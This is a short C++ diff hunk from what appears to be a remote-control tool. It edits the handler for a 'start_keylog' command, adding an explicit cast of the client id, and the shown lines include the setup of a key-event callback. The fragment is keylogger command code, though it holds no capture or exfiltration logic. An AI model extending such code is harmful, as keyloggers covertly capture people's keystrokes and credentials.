@@ -8,7 +8,7 @@ std::unique_ptr<core::command::ICommand> KeyloggerCommandHandler::parse_command(
     const core::command::CommandContext& ctx
 ) {
     if (cmd == "start_keylog") {
-        uint32_t cid = ctx.client_id;
+        uint32_t cid = static_cast<uint32_t>(ctx.client_id);  // The gateway's own cid
         uint32_t bid = ctx.backend_id;
 
         auto on_event = [this, cid, bid](const interfaces::KeyEvent& k) {